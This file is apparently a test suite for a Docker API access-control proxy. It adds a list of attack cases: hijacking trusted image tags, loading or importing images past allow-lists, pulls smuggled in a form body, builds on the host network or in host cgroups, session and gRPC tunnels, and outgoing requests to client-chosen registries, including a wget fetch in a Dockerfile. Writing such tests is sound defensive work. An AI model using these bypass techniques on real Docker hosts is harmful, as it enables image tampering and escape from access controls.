@@ -1,0 +1,239 @@
+import { recordAt, textsOf } from "../../../src/engine/records.ts";
+import { busybox } from "../images.ts";
+import { tarOf } from "./archive.ts";
+import type { Attack } from "./attack.ts";
+import type { Door } from "./door.ts";
+import { idIn } from "./make.ts";
+import type { Stage } from "./stage.ts";
+
+const registry = "127.0.0.1:5000";
+
+const named = (part: string) => async (stage: Stage) =>
+  (await stage.ask("GET", "/images/json")).text.includes(part);
+
+const heard = (pattern: RegExp) => (stage: Stage) => pattern.test(stage.neighbour.heard());
+
+/** An image that came from a registry, `trusted:1`, and another one. */
+async function pulled(stage: Stage): Promise<void> {
+  await stage.ask("POST", `/images/create?fromImage=${registry}/trusted&tag=1`);
+  stage.neighbour.forget();
+}
+
+const trusted = `${registry}/trusted:1`;
+const isTrusted = async (stage: Stage) => {
+  const { json } = await stage.ask("GET", `/images/${trusted}/json`);
+  return (
+    textsOf(recordAt({ json }, "json").RepoDigests).length > 0 &&
+    idIn({ status: 200, text: "", json }) !== stage.image
+  );
+};
+const isTaken = async (stage: Stage) => !(await isTrusted(stage));
+
+const names: readonly Attack[] = [
+  {
+    name: "a name that an image of a registry has, for another",
+    prepare: pulled,
+    attempt: (door) => door.call("POST", `/images/${busybox}/tag?repo=${registry}/trusted&tag=1`),
+    seen: isTaken,
+  },
+  {
+    name: "the same by its id, and with the tag in the name",
+    prepare: pulled,
+    attempt: (door, { image }) =>
+      door.call("POST", `/images/${image.slice(7, 19)}/tag?repo=${registry}/trusted:1`),
+    seen: isTaken,
+  },
+  {
+    name: "a name that an image of a registry has, by a build",
+    prepare: pulled,
+    attempt: (door) => build(door, `FROM ${busybox}\nLABEL evil=1\n`, `t=${registry}/trusted:1`),
+    seen: isTaken,
+  },
+  {
+    name: "the same as the second name of a build",
+    prepare: pulled,
+    attempt: (door) => build(door, `FROM ${busybox}\nLABEL evil=1\n`, `t=mine:1&t=${registry}/trusted:1`),
+    seen: isTaken,
+  },
+  {
+    name: "the same by a commit",
+    prepare: async (stage) => {
+      await pulled(stage);
+      await stage.make("other", {});
+    },
+    attempt: (door) => door.call("POST", `/commit?container=other&repo=${registry}/trusted&tag=1`, {}),
+    seen: isTaken,
+  },
+  {
+    name: "a name that the policy trusts",
+    policy: "{ allow: { images: [trusted] } }",
+    attempt: (door) => door.call("POST", `/images/${busybox}/tag?repo=trusted&tag=latest`),
+    seen: named('"trusted:latest"'),
+  },
+  {
+    name: "a name that the policy trusts, spelled in full",
+    policy: "{ allow: { images: [trusted] } }",
+    attempt: (door) => door.call("POST", `/images/${busybox}/tag?repo=docker.io/library/trusted`),
+    seen: named('"trusted:latest"'),
+  },
+  {
+    name: "a container of an image off the list",
+    policy: "{ allow: { images: [trusted] } }",
+    attempt: (door) =>
+      door.call("POST", "/containers/create?name=evil", {
+        Image: busybox,
+        HostConfig: { NetworkMode: "none" },
+      }),
+    seen: async (stage) => (await stage.containers()).length > 0,
+  },
+  {
+    name: "a container of an image off the list, by its id",
+    policy: "{ allow: { images: [trusted] } }",
+    attempt: async (door, { image }) => {
+      for (const Image of [image, image.slice(7), image.slice(7, 12)]) {
+        await door.call("POST", "/containers/create", { Image, HostConfig: { NetworkMode: "none" } });
+      }
+    },
+    seen: async (stage) => (await stage.containers()).length > 0,
+  },
+];
+
+const brought: readonly Attack[] = [
+  {
+    name: "images from an archive",
+    prepare: async (stage) => {
+      const { text } = await stage.ask("GET", `/images/${busybox}/get`);
+      stage.kept.set("archive", text);
+    },
+    attempt: (door, { kept }) =>
+      door.send(
+        "POST",
+        "/images/load",
+        Buffer.from((kept.get("archive") ?? "").replaceAll(busybox, "evilbox:test"), "latin1"),
+      ),
+    seen: named('"evilbox:test"'),
+  },
+  {
+    name: "an image from a file",
+    attempt: async (door) =>
+      door.send("POST", "/images/create?fromSrc=-&repo=evil&tag=1", await tarOf({ a: "a" })),
+    seen: named('"evil:1"'),
+  },
+  {
+    name: "an image from an address",
+    attempt: (door) =>
+      door.call("POST", `/images/create?fromSrc=http://${registry}/image.tar&repo=evil&tag=1`),
+    seen: heard(/image\.tar/),
+  },
+  {
+    name: "an import that looks like a pull",
+    attempt: async (door) =>
+      door.send("POST", "/images/create?fromImage=&fromSrc=-&repo=evil&tag=1", await tarOf({ a: "a" })),
+    seen: named('"evil:1"'),
+  },
+  {
+    name: "a pull off the list of images",
+    policy: "{ allow: { images: [trusted] } }",
+    attempt: (door) => door.call("POST", `/images/create?fromImage=${registry}/evil&tag=1`),
+    seen: heard(/evil/),
+  },
+  {
+    name: "a pull of all tags off the list of images",
+    policy: `{ allow: { images: ['${registry}/evil:2'] } }`,
+    attempt: (door) => door.call("POST", `/images/create?fromImage=${registry}/evil`),
+    seen: heard(/evil/),
+  },
+  {
+    name: "a pull from a registry off the list",
+    policy: "{ allow: { registries: [docker.io] } }",
+    attempt: (door) => door.call("POST", `/images/create?fromImage=${registry}/evil&tag=1`),
+    seen: heard(/evil/),
+  },
+  {
+    name: "a pull under another name, by a form in the body",
+    policy: `{ allow: { images: ['${registry}/good'] } }`,
+    attempt: (door) =>
+      door.send(
+        "POST",
+        `/images/create?fromImage=${registry}/good&tag=1`,
+        Buffer.from(`fromImage=${registry}/evil`),
+        "application/x-www-form-urlencoded",
+      ),
+    seen: heard(/evil/),
+  },
+  {
+    name: "a push",
+    prepare: (stage) => stage.ask("POST", `/images/${busybox}/tag?repo=${registry}/stolen&tag=1`),
+    attempt: async (door) =>
+      door.raw(
+        `POST /v1.45/images/${registry}/stolen/push?tag=1 HTTP/1.1\r\nHost: docker\r\nConnection: close\r\nX-Registry-Auth: e30=\r\nContent-Length: 0\r\n\r\n`,
+      ),
+    seen: heard(/stolen/),
+  },
+];
+
+async function build(door: Door, dockerfile: string, query: string) {
+  return door.send("POST", `/build?${query}`, await tarOf({ Dockerfile: dockerfile }));
+}
+
+const fetches = `FROM ${busybox}\nRUN wget -q -O- http://${registry}/reached || true\n`;
+
+const built: readonly Attack[] = [
+  {
+    name: "a build on the host's network",
+    attempt: (door) => build(door, fetches, "networkmode=host"),
+    seen: heard(/reached/),
+  },
+  {
+    name: "a build in the network of a container that is on the host's",
+    prepare: (stage) =>
+      stage.make("other", { Cmd: ["sleep", "1000"], HostConfig: { NetworkMode: "host" } }, "start"),
+    attempt: (door) => build(door, fetches, "networkmode=container:other"),
+    seen: heard(/reached/),
+  },
+  {
+    name: "a build from an address",
+    attempt: (door) => door.call("POST", `/build?remote=http://${registry}/Dockerfile&t=evil`),
+    seen: heard(/Dockerfile/),
+  },
+  {
+    name: "a build in a cgroup of the host's",
+    attempt: (door) => build(door, `FROM ${busybox}\nRUN cat /proc/self/cgroup\n`, "cgroupparent=/evil"),
+    seen: (_, said) => said.includes("/evil/"),
+  },
+  {
+    name: "a build in a session",
+    attempt: (door) =>
+      door.raw(
+        "POST /v1.45/session HTTP/1.1\r\nHost: docker\r\nConnection: Upgrade\r\nUpgrade: h2c\r\nX-Docker-Expose-Session-Uuid: abc\r\nX-Docker-Expose-Session-Name: x\r\n\r\n",
+      ),
+    seen: (_, said) => said.startsWith("HTTP/1.1 101"),
+  },
+  {
+    name: "a tunnel by gRPC",
+    attempt: (door) =>
+      door.raw("POST /v1.45/grpc HTTP/1.1\r\nHost: docker\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"),
+    seen: (_, said) => said.startsWith("HTTP/1.1 101"),
+  },
+];
+
+const outgoing: readonly Attack[] = [
+  {
+    name: "a login at an address of the client's choice",
+    attempt: (door) =>
+      door.call("POST", "/auth", { username: "a", password: "b", serveraddress: `http://${registry}` }),
+    seen: heard(/v2/),
+  },
+  {
+    name: "a search at an address of the client's choice",
+    attempt: (door) => door.call("GET", `/images/search?term=${registry}/evil`),
+    seen: heard(/evil|search|v1/),
+  },
+  {
+    name: "a look at a registry of the client's choice",
+    attempt: (door) => door.call("GET", `/distribution/${registry}/evil:1/json`),
+    seen: heard(/evil/),
+  },
+];
+
+export const imageAttacks: readonly Attack[] = [...names, ...brought, ...built, ...outgoing];
